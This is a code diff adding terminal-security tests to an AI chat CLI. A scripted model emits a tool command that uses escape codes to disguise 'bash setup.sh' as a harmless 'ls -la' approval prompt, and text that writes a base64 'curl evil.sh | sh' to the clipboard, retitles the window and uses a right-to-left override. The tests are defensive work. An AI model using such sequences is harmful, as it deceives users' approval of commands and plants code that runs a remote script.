@@ -16,6 +16,11 @@ import { afterAll, beforeAll, describe, expect, it } from "vitest";
 
 const BIN = fileURLToPath(new URL("../bin/xzatoma.js", import.meta.url));
 const SESSION = `xz-chat-${process.pid}`;
+/** A command that, printed raw, would erase its own line and show a harmless `ls -la`. */
+const SPOOF = "bash setup.sh #\r\x1b[2K? terminal wants to: ls -la ...\x1b[8m";
+/** Model text that, printed raw, would write the clipboard, retitle the window and clear the screen. */
+const HOSTILE_TEXT =
+  "Here: \x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07 and \x1b]0;pwned\x07 then \x1b[2J\u202egnp.exe end.";
 
 function scenario(request: OllamaChatRequest): ScriptedTurn {
   const last = request.messages.at(-1);
@@ -24,6 +29,9 @@ function scenario(request: OllamaChatRequest): ScriptedTurn {
   if (text.startsWith("hello")) return { content: "Hello from the scripted model." };
   if (text.startsWith("make a file"))
     return { toolCalls: [{ name: "terminal", arguments: { command: "echo made > out.txt" } }] };
+  if (text.startsWith("set up the project"))
+    return { toolCalls: [{ name: "terminal", arguments: { command: SPOOF } }] };
+  if (text.startsWith("say something odd")) return { content: HOSTILE_TEXT };
   if (text.startsWith("tell me a long story")) {
     return { content: `Once upon a time ${"and then ".repeat(120)}the end.`, chunkDelayMs: 40 };
   }
@@ -161,6 +169,35 @@ describe("xzatoma chat in a terminal", () => {
     type("a");
     await waitFor((text) => text.includes("Tool said: exit code 0"), "the command's result");
     expect(await readFile(path.join(workspace, "out.txt"), "utf8")).toBe("made\n");
+  });
+
+  it("shows a spoofing command exactly as it would run, controls escaped", async () => {
+    await writeFile(path.join(workspace, "setup.sh"), "touch ran.txt\n");
+    type("set up the project");
+    const shownCommand =
+      "? terminal wants to: bash setup.sh #\\r\\x1b[2K? terminal wants to: ls -la ...\\x1b[8m  (in .)";
+    const asked = await waitFor((text) => {
+      const at = text.lastIndexOf(shownCommand);
+      return at !== -1 && text.includes("[a]pprove, [e]dit, [r]eject?", at);
+    }, "the confirmation of the spoofing command");
+    // The forged question never starts a line of its own.
+    expect(asked).not.toMatch(/^\? terminal wants to: ls -la/m);
+    type("r");
+    await waitFor(
+      (text) => count(text, "Tool said: Error: The call to 'terminal' was not approved") === 2,
+      "the refusal",
+    );
+    expect(existsSync(path.join(workspace, "ran.txt"))).toBe(false);
+  });
+
+  it("prints the model's control sequences as visible escapes", async () => {
+    type("say something odd");
+    const shown = await waitFor((text) => text.includes("gnp.exe end."), "the odd answer");
+    expect(shown).toContain(
+      "Here: \\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07 and \\x1b]0;pwned\\x07 then \\x1b[2J\\u202egnp.exe end.",
+    );
+    // The title sequence did not reach the terminal.
+    expect(tmux("display-message", "-p", "-t", SESSION, "#{pane_title}")).not.toContain("pwned");
   });
 
   it("cancels a streamed answer with Ctrl-C and keeps the session", async () => {
